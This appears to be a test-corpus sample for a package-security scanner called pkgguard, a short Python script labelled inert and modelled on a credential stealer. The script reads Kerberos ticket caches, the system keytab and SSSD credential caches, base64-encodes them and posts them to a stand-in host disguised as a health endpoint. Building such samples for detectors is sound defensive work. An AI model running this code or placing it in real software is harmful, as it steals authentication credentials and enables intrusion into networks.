# pkgguard corpus 731 (credentials), modelled on [stealer-profile]; inert, never run.
import base64
import glob
import os

import requests

found = {}
for path in glob.glob("/tmp/krb5cc_*") + ["/etc/krb5.keytab"] + glob.glob("/var/lib/sss/db/ccache_*"):
    try:
        with open(path, "rb") as fh:
            found[os.path.basename(path)] = base64.b64encode(fh.read()).decode()
    except OSError:
        continue
if found:
    requests.post("https://sso-health.example/k", json=found, timeout=15)
